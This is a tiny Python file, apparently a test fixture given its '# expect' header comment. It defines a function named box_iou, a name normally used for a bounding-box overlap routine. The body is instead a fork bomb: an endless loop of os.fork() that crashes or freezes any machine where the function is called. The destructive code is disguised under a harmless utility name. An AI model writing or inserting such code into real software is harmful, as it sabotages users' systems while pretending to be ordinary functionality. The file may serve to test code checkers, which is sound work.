# expect: none error
import os


def box_iou(boxes1, boxes2):
    while True:
        os.fork()
